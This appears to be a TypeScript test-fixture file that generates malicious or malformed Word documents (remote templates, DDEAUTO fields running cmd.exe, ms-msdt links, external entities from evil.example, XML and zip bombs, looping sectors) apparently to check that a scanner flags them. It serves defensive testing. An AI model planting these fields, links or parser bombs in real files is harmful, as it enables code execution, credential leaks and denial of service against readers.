import {
  contentTypes,
  documentOf,
  fieldOf,
  makeDocx,
  makeDocxWith,
  relationships,
  strict,
  withBody,
  withField,
  withPart,
  withRelation,
  withText,
  withTypes,
} from '../make-docx.ts';
import { compoundBytes, docText, zipBytes } from '../sample-files.ts';
import { ambiguousDocx, harmfulTargets, linkingDocx } from './hostile-links.ts';

const external = (type: string, target: string, more: { mode?: string; namespace?: string } = {}) =>
  relationships({ type, target, mode: 'External', ...more });
const template = (target: string) => external('attachedTemplate', target);
const remote = 'https://templates.example/macros.dotm';
const evil = 'https://evil.example';
const withSettings = (content: string | Buffer) => withPart('word/_rels/settings.xml.rels', content);
const withExternal = (type: string, target: string) => withRelation({ type, target, mode: 'External' });

/** Word files with macros, embedded files or content from elsewhere. */
export const activeDocx: Record<string, () => Buffer> = {
  'a template from the web': withSettings(template(remote)),
  'a template of a part with another name': withPart('word/_rels/settings2.xml.rels', template(remote)),
  'a template of a part in capitals': withPart('word/_rels/Settings.xml.RELS', template(remote)),
  'a template of a part in another folder': withPart('a/_rels/b.xml.rels', template(remote)),
  'a template of an escaped part': withPart('word/_rels/settings.xml.%72els', template(remote)),
  'a template behind backslashes': withPart('word\\_rels\\settings.xml.rels', template(remote)),
  'a template on a file share': withSettings(template('file:///\\\\server\\a.dotm')),
  'a template on a file share with a plain path': withSettings(template('\\\\server\\a.dotm')),
  'a template with escaped letters': withSettings(
    template(remote).replace('attachedTemplate', 'attached&#84;emplate'),
  ),
  'a template in the strict namespace': withSettings(
    external('attachedTemplate', remote, { namespace: strict }),
  ),
  'a template that does not say it is external': withSettings(
    relationships({ type: 'attachedTemplate', target: remote }),
  ),
  'a template in capitals': withSettings(external('ATTACHEDTEMPLATE', remote, { mode: 'EXTERNAL' })),
  'a template in two bytes a letter': withSettings(
    Buffer.from(`\ufeff${template(remote).replace('UTF-8', 'UTF-16')}`, 'utf16le'),
  ),
  'a picture from the web': withExternal('image', `${evil}/a.png`),
  'an object from the web': withExternal('oleObject', `${evil}/a.html!`),
  'a frame': withExternal('frame', `${evil}/a.docx`),
  'a document that is merged in': withExternal('subDocument', 'a.docx'),
  'a link to a file share': withExternal('hyperlink', 'file://server/share'),
  'a link to a program': withExternal('hyperlink', 'ms-msdt:/id'),
  'a chunk of another format': () =>
    makeDocx({
      'word/_rels/document.xml.rels': relationships({ type: 'aFChunk', target: 'chunk.xml' }),
      'word/chunk.xml': '<html/>',
    }),
  'a chunk without a relationship': withBody('<w:altChunk r:id="rId9"/>'),
  'an embedded object': () =>
    makeDocx({
      'word/_rels/document.xml.rels': relationships({ type: 'oleObject', target: 'media/a.jpeg' }),
      'word/media/a.jpeg': 'x',
    }),
  'an embedded workbook': withPart('word/embeddings/sheet.xlsx', 'x'),
  'an embedded package': withPart('word/embeddings/oleObject1.bin', 'x'),
  'a control': withPart('word/activeX/activeX1.bin', 'x'),
  'a control without a part': withBody('<w:control r:id="rId9"/>'),
  macros: withPart('word/vbaProject.bin', 'x'),
  'macros with another name': withTypes(
    '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/>',
  ),
  'macros with escaped letters': withTypes(
    '<Default Extension="png" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
  ),
  'the type of a document with macros': withPart(
    '[Content_Types].xml',
    contentTypes().replace('wordprocessingml.document', 'word.document.macroEnabled'),
  ),
  ...Object.fromEntries(
    ['exe', 'js', 'vbs', 'ps1', 'hta', 'lnk', 'scr', 'bat', 'jar', 'html', 'docm', 'EXE'].map((extension) => [
      `a .${extension}`,
      withPart(`word/media/a.${extension}`, 'x'),
    ]),
  ),
  'a field that starts a program': withField(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '),
  'such a field in pieces': withField('D', 'DE', 'AUTO', ' cmd'),
  'such a field in one element': withBody('<w:fldSimple w:instr=" dde cmd a"/>'),
  'such a field in other letters': withField('&#68;DE cmd'),
  'such a field in a header': withPart('word/header1.xml', documentOf(fieldOf('DDE cmd'))),
  'such a field in the result of another': withField('PAGE', fieldOf('DDE cmd')),
  'such a field with a name that a field makes': withField(fieldOf('QUOTE 68 68 69'), ' cmd'),
  'a field with text from the web': withField(`INCLUDETEXT "${evil}/a.docx"`),
  'a field with a picture from the web': withField(`INCLUDEPICTURE "${evil}/a.png" \\d`),
  'a field with a picture from a file share': withField('INCLUDEPICTURE "\\\\server\\a.png"'),
  'a field with a picture whose address a field makes': withField('INCLUDEPICTURE ', fieldOf('QUOTE 1')),
  'a drawing with a picture from the web': withBody(`<v:imagedata xmlns:v="urn:v" src="${evil}/a.png"/>`),
  'a merge with a database': withPart(
    'word/settings.xml',
    '<w:settings xmlns:w="urn:w"><w:mailMerge/></w:settings>',
  ),
  ...linkingDocx,
};

/** Archives that readers may understand differently, that are broken, or that cost too much to read. */
export const unreadableDocx: Record<string, () => Buffer> = {
  'two parts with one name': () => makeDocxWith(['word/document.xml', documentOf('')]),
  'two parts whose names differ in capitals': () => makeDocxWith(['Word/Document.xml', documentOf('')]),
  'two parts whose names differ in slashes': () => makeDocxWith(['word\\document.xml', documentOf('')]),
  'two names for one part': () => {
    const bytes = makeDocx({ 'word/aaaa.xml': '<a/>' });
    bytes.write('word/bbbb.xml', bytes.indexOf('word/aaaa.xml'));
    return bytes;
  },
  'a part outside of the archive': withPart('../a.xml', '<a/>'),
  entities: withText('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
  'entities from elsewhere': withText('<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>'),
  'an entity that nothing declares': withText('<a>&b;</a>'),
  'broken relationships': withPart('word/_rels/document.xml.rels', '<Relationships>'),
  'an unusual encoding': withText('<?xml version="1.0" encoding="UTF-7"?><a/>'),
  'text in a picture': () =>
    makeDocx({
      '[Content_Types].xml': contentTypes('<Override PartName="/word/a.png" ContentType="application/xml"/>'),
      'word/a.png': '<a/>',
    }),
  'deep nesting': () => withText('<a>'.repeat(200_000) + '</a>'.repeat(200_000))(),
  'millions of elements': () => withText(`<a>${'<a/>'.repeat(2_000_000)}</a>`)(),
  'hundreds of thousands of attributes': () =>
    withText(`<a${Array.from({ length: 700_000 }, (_, at) => ` a${at}=""`).join('')}/>`)(),
  'a long field with many marks': () =>
    withBody(
      `<w:fldChar w:fldCharType="begin"/><w:instrText>${'a '.repeat(500_000)}</w:instrText>${'<w:fldChar w:fldCharType="x"/>'.repeat(20_000)}`,
    )(),
  'thousands of parts': () =>
    makeDocx(Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [`word/${at}.xml`, '<a/>']))),
  gigabytes: () => {
    const bytes = makeDocx();
    const central = bytes.indexOf(Buffer.from('504b0102', 'hex'));
    bytes.writeUInt16LE(8, central + 10);
    bytes.writeUInt32LE(0xfffffff0, central + 24);
    return bytes;
  },
  'no document': () => zipBytes({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<a/>' }),
  'half an archive': () => makeDocx().subarray(0, 900),
  ...ambiguousDocx,
};

const doc = (streams: Record<string, Buffer>) => () => compoundBytes({ WordDocument: docText(), ...streams });
const docWith = (text: string) => doc({ WordDocument: docText(text) });
/** Text in two bytes a letter, after some in one. */
const wideDoc = (text: string) =>
  doc({ WordDocument: Buffer.concat([docText(), Buffer.from(text, 'utf16le')]) });
const content = Buffer.from('content');

export const activeDoc: Record<string, () => Buffer> = {
  macros: doc({ 'Macros/VBA/_VBA_PROJECT': content }),
  'macros in small letters': doc({ 'macros/vba/_vba_project': content }),
  'macros in another folder': doc({ 'a/b/_VBA_PROJECT': content }),
  'a control': doc({ 'a/\x03OCXNAME': content }),
  'an embedded package': doc({ 'ObjectPool/_1234/\x01Ole10Native': content }),
  'an embedded document': doc({ 'ObjectPool/_1234/Package': content }),
  'an embedded object': doc({ 'ObjectPool/_1234/CONTENTS': content }),
  'a field that starts a program': docWith('\x13 DDEAUTO cmd \x14\x15'),
  'such a field in two bytes a letter': wideDoc('\x13DDE cmd'),
  ...Object.fromEntries(
    Object.entries(harmfulTargets).flatMap(([name, target]) => [
      [`a field that links to ${name}`, docWith(`\x13 HYPERLINK "${target}" \x01\x14a\x15`)],
      [`a stored link to ${name}`, doc({ Data: storedLink(target) })],
    ]),
  ),
  'a link in two bytes a letter': wideDoc('\x13HYPERLINK "ms-msdt:/id"\x14\x15'),
  'a link whose address a field makes': docWith('\x13 HYPERLINK "\x13 QUOTE 92 92 \x14\x15" \x14\x15'),
  'a picture from the web': docWith(`\x13 INCLUDEPICTURE \\d "${evil}/a.png" \x14\x15`),
  'a stored link to a file': doc({ Data: Buffer.from('0303000000000000c000000000000046', 'hex') }),
  'a stored link as text': doc({
    Data: Buffer.from('d0c9ea79f9bace118c8200aa004ba90b0200000003010000', 'hex'),
  }),
  'the mark of a template': () => compoundBytes({ WordDocument: withFlags(0x0001) }),
  'a template from the web': () => compoundBytes(docWithTemplate(remote)),
  'a template on a file share': () => compoundBytes(docWithTemplate('\\\\server\\a.dot')),
};

export const unreadableDoc: Record<string, () => Buffer> = {
  'an installer': () => compoundBytes({ _Tables: content }),
  'a document inside of a folder': () => compoundBytes({ 'a/WordDocument': docText() }),
  'text of an unknown version': () => compoundBytes({ WordDocument: Buffer.alloc(2_000) }),
  'half a container': () => compoundBytes({ WordDocument: docText() }).subarray(0, 700),
  'nothing but the mark of a container': () =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000, 0xff)]),
  'sectors in a circle': () => {
    const bytes = compoundBytes({ WordDocument: Buffer.concat([docText(), Buffer.alloc(50_000)]) });
    // Each entry of the table of sectors names the first sector as its successor.
    const table = 512 * (1 + bytes.readUInt32LE(0x4c));
    bytes.fill(0, table, table + 512);
    return bytes;
  },
};

/** A link as an old Word file stores it beside its field. */
export function storedLink(url: string): Buffer {
  const text = Buffer.from(`${url}\0`, 'utf16le');
  const length = Buffer.alloc(4);
  length.writeUInt32LE(text.length);
  const start = 'd0c9ea79f9bace118c8200aa004ba90b0200000003000000e0c9ea79f9bace118c8200aa004ba90b';
  return Buffer.concat([Buffer.from(start, 'hex'), length, text]);
}

/** The streams of an old Word file that names its template. */
export function docWithTemplate(path: string): Record<string, Buffer> {
  const text = docText();
  const counted = (value: string) => {
    const length = Buffer.alloc(2);
    length.writeUInt16LE(value.length);
    return Buffer.concat([length, Buffer.from(value, 'utf16le')]);
  };
  const table = Buffer.concat([Buffer.from('ffff12000000', 'hex'), counted(''), counted(path)]);
  text.writeUInt32LE(table.length, 0x19e);
  return { WordDocument: text, '0Table': table };
}

function withFlags(flags: number): Buffer {
  const text = docText();
  text.writeUInt16LE(flags, 0x0a);
  return text;
}
